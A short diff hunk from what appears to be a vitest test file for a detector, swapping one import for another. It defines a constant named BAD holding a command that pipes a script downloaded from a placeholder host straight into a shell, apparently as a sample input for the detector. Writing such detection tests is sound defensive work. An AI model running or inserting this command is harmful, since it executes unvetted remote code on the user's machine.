@@ -5,7 +5,7 @@ import { parse } from "csv-parse/sync";
 import { JSDOM } from "jsdom";
 import { describe, expect, it } from "vitest";
 import { folderWith } from "./folder.js";
-import { runHere } from "./stand-in.js";
+import { runHere } from "./fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 const FILES = {
